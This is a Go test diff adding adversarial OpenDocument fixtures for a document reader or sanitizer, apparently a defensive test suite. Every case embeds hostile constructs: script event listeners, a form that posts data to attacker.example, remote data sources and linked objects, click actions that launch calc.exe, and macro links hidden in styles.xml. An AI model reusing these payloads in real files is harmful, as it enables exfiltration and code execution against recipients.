@@ -106,6 +106,40 @@ func TestReadersOOXML(t *testing.T) {
 	runCases(t, cases)
 }
 
+// TestReadersODF: scripts, forms and linked objects in OpenDocument text, spelled with
+// other prefixes and in styles.xml as well as content.xml.
+func TestReadersODF(t *testing.T) {
+	odtNS := `xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"`
+	odt := func(head, body string, parts ...zipEntry) []byte {
+		p := []zipEntry{
+			{"mimetype", "application/vnd.oasis.opendocument.text"},
+			{"META-INF/manifest.xml", `<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`},
+			{"content.xml", `<?xml version="1.0"?><office:document-content ` + odtNS + ` office:version="1.2">` + head + `<office:body><office:text>` + body + `</office:text></office:body></office:document-content>`},
+		}
+		return mkzip(t, append(p, parts...)...)
+	}
+	frame := func(s string) string {
+		return `<text:p><draw:frame svg:width="1cm" svg:height="1cm">` + s + `</draw:frame></text:p>`
+	}
+	forms := func(s string) string { return `<office:forms>` + s + `</office:forms>` }
+	basic := `vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=application`
+	cases := []advCase{
+		{"odf/scripts-under-other-prefixes", "a.odt", "", odt(`<o:scripts xmlns:o="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><o:event-listeners><s:event-listener xmlns:s="urn:oasis:names:tc:opendocument:xmlns:script:1.0" s:language="ooo:script" s:event-name="dom:load" xmlns:x="http://www.w3.org/1999/xlink" x:href="`+basic+`"/></o:event-listeners></o:scripts>`, `<text:p>x</text:p>`), "safe", ""},
+		{"odf/form-button-url-and-event", "a.odt", "", odt(forms(`<form:form form:name="F" xlink:href="http://attacker.example/post" form:method="post"><form:button form:id="b" form:name="b" form:button-type="url" xlink:href="file:///C:/Windows/System32/calc.exe"><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="form:performaction" xlink:href="`+basic+`"/></office:event-listeners></form:button></form:form>`), `<text:p>x</text:p>`), "safe", ""},
+		// LibreOffice loads a control's image-data when the form is shown, and connects a
+		// form to its data source when it loads.
+		{"odf/form-image-data-remote", "a.odt", "", odt(forms(`<form:form form:name="F"><form:image-frame form:id="f" form:name="f" form:image-data="http://attacker.example/k.png"/><form:button form:id="b" form:name="b" form:image-data="file://attacker.example/s/i.png"/></form:form>`), `<text:p>x</text:p>`), "safe", ""},
+		{"odf/form-external-datasource", "a.odt", "", odt(forms(`<form:form form:name="F" form:datasource="sdbc:mysql:jdbc:attacker.example:3306/db" form:command="t" form:command-type="table"><form:connection-resource xlink:href="sdbc:odbc:attacker"/><form:text form:id="t" form:name="t" form:data-field="c"/></form:form>`), `<text:p>x</text:p>`), "safe", ""},
+		{"odf/click-action-on-frame", "a.odt", "", odt("", frame(`<draw:text-box><text:p>x</text:p></draw:text-box><office:event-listeners><presentation:event-listener xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" script:event-name="dom:click" presentation:action="execute" xlink:href="file:///C:/Windows/System32/calc.exe"/></office:event-listeners>`)), "safe", ""},
+		{"odf/linked-object-unc", "a.odt", "", odt("", frame(`<draw:object xlink:href="file:///\\attacker.example\s\x.ods" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>`)), "safe", ""},
+		{"odf/linked-object-parent-path", "a.odt", "", odt("", frame(`<draw:object xlink:href="../../../attacker.example/s/x.ods"/>`)), "safe", ""},
+		{"odf/ole-plugin-applet-links", "a.odt", "", odt("", frame(`<draw:object-ole xlink:href="http://attacker.example/x.xls"/>`)+frame(`<draw:plugin xlink:href="http://attacker.example/x.swf" draw:mime-type="application/x-shockwave-flash"/>`)+frame(`<draw:applet draw:code="X.class" xlink:href="http://attacker.example/"/>`)+frame(`<draw:floating-frame xlink:href="http://attacker.example/"/>`)), "safe", ""},
+		{"odf/link-schemes", "a.odt", "", odt("", `<text:p><text:a xlink:href="vnd.libreoffice.command:.uno:Open">a</text:a><text:a xlink:href="macro:///Standard.Module1.Main">b</text:a><text:a xlink:href="%66ile:///C:/x.exe">c</text:a><text:a xlink:href=" file:///C:/x.exe">d</text:a><text:a xlink:href="slot:5500">e</text:a><text:a xlink:href=".uno:Quit">f</text:a></text:p>`), "safe", ""},
+		{"odf/macro-in-styles-header", "a.odt", "", odt("", `<text:p>x</text:p>`, zipEntry{"styles.xml", `<?xml version="1.0"?><office:document-styles ` + odtNS + `><office:master-styles><style:master-page xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" style:name="Standard"><style:header><text:p><text:execute-macro text:name="Standard.Module1.Main">x</text:execute-macro><text:a xlink:href="macro:///Standard.Module1.Main">m</text:a></text:p><text:section text:name="s"><text:section-source xlink:href="http://attacker.example/x.odt"/></text:section></style:header></style:master-page></office:master-styles></office:document-styles>`}), "safe", ""},
+	}
+	runCases(t, cases)
+}
+
 // TestReadersMailAndNames: MIME that readers repair, and names that Windows normalises
 // into executables when it writes the file.
 func TestReadersMailAndNames(t *testing.T) {
